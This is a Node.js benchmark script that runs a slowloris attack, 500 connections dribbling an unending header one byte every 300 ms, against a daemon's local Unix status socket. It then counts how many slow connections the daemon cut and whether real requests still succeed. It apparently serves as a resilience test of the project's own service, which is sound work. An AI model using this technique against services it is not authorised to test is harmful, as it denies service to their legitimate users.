// 500 slowloris connections on a status socket, then 10 real requests: prints how many slow
// connections the daemon cut and what each real request got. Run against a daemon you started:
//   node bench/attacks/slowloris.mjs /run/songnodes-watchdog/status.sock
import { connect } from "node:net";
import { request } from "node:http";

const path = process.argv[2];
if (!path) {
  console.error("usage: node bench/attacks/slowloris.mjs SOCKET");
  process.exit(64);
}
const slow = [];
let closed = 0;
for (let i = 0; i < 500; i++) {
  const socket = connect(path);
  socket.on("error", () => {});
  socket.on("close", () => closed++);
  // A valid request line and a header whose value never ends, one byte every 300 ms.
  socket.write("GET /v1/status HTTP/1.1\r\nX-A: ");
  slow.push(socket);
}
setInterval(() => {
  for (const socket of slow) if (!socket.destroyed) socket.write("b");
}, 300);
await new Promise((resolve) => setTimeout(resolve, 500));
const ask = () =>
  new Promise((resolve) => {
    const req = request({ socketPath: path, path: "/v1/status", timeout: 5000 }, (res) => {
      res.resume();
      res.on("end", () => resolve(res.statusCode));
    });
    req.on("error", (error) => resolve(error.code));
    req.on("timeout", () => req.destroy());
    req.end();
  });
const answers = [];
for (let i = 0; i < 10; i++) answers.push(await ask());
console.log(`slow connections cut by the daemon: ${closed} of 500; real requests: ${answers.join(" ")}`);
process.exit(0);
